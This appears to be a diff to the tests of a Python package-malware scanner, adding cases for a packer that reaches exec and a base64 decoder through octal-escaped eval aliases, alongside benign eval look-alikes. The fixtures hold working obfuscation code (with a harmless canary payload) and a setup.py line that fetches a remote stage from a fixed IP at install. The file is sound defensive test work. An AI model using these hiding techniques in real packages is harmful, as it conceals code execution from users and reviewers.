@@ -6,6 +6,7 @@ scan the files. Each technique has benign look-alikes beside it that must stay q
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 
 import pytest
@@ -423,3 +424,46 @@ def test_a_setup_script_with_a_shebang_still_runs_at_install(tmp_path: Path) -> 
     setup = "#!/usr/bin/env python\nimport requests\nrequests.get('http://198.51.100.7:1122/stage.txt')\n"
     found = scan(tmp_path, {"p-1.0/setup.py": setup})
     assert worst(found, "code-network-at-import") is Severity.HIGH
+
+
+# --- builtins and modules reached through eval ----------------------------------------------
+
+
+def _escaped(text: str) -> str:
+    """`text` as a Python string literal of octal escapes, as packers write names."""
+    return '"' + "".join(f"\\{ord(c):03o}" for c in text) + '"'
+
+
+def test_a_packer_reaching_exec_and_a_decoder_through_eval_is_caught(tmp_path: Path) -> None:
+    payload = base64.b64encode(b"open('canary.txt', 'w').write('1')").decode()
+    module = (
+        f"_a = eval({_escaped('eval')}); _c = _a({_escaped('compile')})\n"
+        f"_b64, _x = _a(_c({_escaped(chr(95) * 2 + 'import__(' + repr('base64') + ')')}, '', _a.__name__)), "
+        f"_a(_c({_escaped('exec')}, '', _a.__name__))\n"
+        f"_x(_b64.b64decode('{payload}'))\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-obfuscated-strings") >= Severity.HIGH
+    assert worst(found, "code-exec-decoded") is Severity.CRITICAL  # the aliases resolve: exec(base64...)
+
+
+def test_names_bound_in_one_tuple_resolve_like_names_bound_one_by_one(tmp_path: Path) -> None:
+    payload = base64.b64encode(b"print('hello')").decode()
+    module = f"import base64\nrun, dec = exec, base64.b64decode\nrun(dec('{payload}'))\n"
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-exec-decoded") is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "module",
+    [
+        "TOTAL = eval('1 + 2')\n",  # arithmetic, not a name
+        "import math\nPI = eval('math.pi')\n",  # a constant of an untracked module
+        "def parse(expression):\n    return eval(expression)\n",  # the caller's text
+        "a, b = 1, 2\nx, y = [a, b]\n",
+    ],
+)
+def test_eval_of_ordinary_text_stays_quiet(tmp_path: Path, module: str) -> None:
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found) < Severity.HIGH
+    assert not [f for f in found if f.rule == "code-obfuscated-strings"]
